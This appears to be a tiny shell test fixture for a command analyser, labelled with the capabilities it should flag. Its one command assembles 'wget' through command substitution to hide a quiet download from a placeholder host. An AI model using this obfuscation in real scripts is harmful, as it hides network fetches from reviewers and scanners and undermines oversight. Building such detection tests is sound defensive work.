# capabilities: network, processes or unanalyzed; hidden by: command substitution
`printf '%s%s' wg et` -q http://example.invalid/
echo "done"
